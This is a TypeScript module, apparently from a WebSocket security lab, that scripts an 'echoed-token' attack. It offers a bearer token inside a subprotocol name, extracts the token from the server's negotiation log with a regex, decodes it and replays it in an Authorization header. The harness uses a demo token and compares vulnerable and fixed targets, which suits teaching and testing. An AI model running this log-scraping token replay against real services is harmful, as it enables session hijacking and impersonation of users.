import { DEMO_TOKEN } from '../../protocol/messages.ts';
import { BEARER_SUBPROTOCOL, PLAIN_SUBPROTOCOL } from '../../protocol/subprotocols.ts';
import { type Attack, CannotRun, failed, succeeded } from './attack.ts';
import { lastLine } from './support/log.ts';
import { open } from './support/socket.ts';

/** Finds the token in the log of what was negotiated. */
export const attack: Attack<'echoed-token'> = {
  name: 'echoed-token',
  async run(scene) {
    const { target, fixed, note } = scene;
    const offer = [BEARER_SUBPROTOCOL + Buffer.from(DEMO_TOKEN).toString('base64url'), PLAIN_SUBPROTOCOL];
    const url = fixed ? target.method('subprotocol') : target.twin('/echoed-token');
    const used = await open(scene, 'victim', url, { protocols: offer, shows: true });
    if (!used.opened) throw new CannotRun('The victim was not let in.');
    if (!used.protocol.startsWith(BEARER_SUBPROTOCOL)) {
      note('attacker', 'findsNothing', {});
      return failed('echoed-token', { protocol: used.protocol });
    }
    const line = await lastLine(scene, 'echoed-token', /negotiated/);
    const found = line?.match(/lab\.([\w-]{20,})/)?.[1];
    if (line === undefined || found === undefined) throw new CannotRun('The log shows no negotiation.');
    note('twin', 'logsNegotiation', { line });
    const token = Buffer.from(found, 'base64url').toString();
    note(['twin', 'attacker'], 'decodes', { token });
    const replayed = await open(scene, 'attacker', target.method('bearer-header'), {
      headers: { Authorization: `Bearer ${token}` },
      shows: true,
    });
    return replayed.opened
      ? succeeded('echoed-token', {})
      : failed('echoed-token', { protocol: used.protocol });
  },
};
